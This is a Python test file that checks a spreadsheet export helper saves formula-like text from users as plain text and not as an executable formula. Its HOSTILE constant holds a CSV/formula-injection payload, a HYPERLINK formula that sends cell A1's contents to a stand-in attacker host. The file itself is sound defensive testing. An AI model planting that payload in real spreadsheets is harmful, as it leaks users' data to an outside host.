"""bot/xlsx.py: text from people and providers stays text in an export, never a formula a spreadsheet would run."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from bot import xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_text_that_looks_like_a_formula_is_saved_as_text() -> None:
    book = Workbook()
    sheet = book.active
    xlsx.append_row(sheet, ("姓名", "金额"))
    xlsx.append_row(sheet, (HOSTILE, 12.5))
    xlsx.frame(sheet, (20, 10))

    read = load_workbook(io.BytesIO(xlsx.workbook_bytes(book))).active
    name, amount = read[2]
    assert name.data_type == "s" and name.value == HOSTILE
    assert amount.data_type == "n" and amount.value == 12.5
    assert read.freeze_panes == "A2"
    assert read.column_dimensions["A"].width == 20 and read.column_dimensions["B"].width == 10


def test_without_the_guard_openpyxl_would_store_a_formula() -> None:
    """Why append_row exists: a plain append turns the same text into a formula."""
    book = Workbook()
    book.active.append((HOSTILE,))
    read = load_workbook(io.BytesIO(xlsx.workbook_bytes(book))).active
    assert read["A1"].data_type == "f"
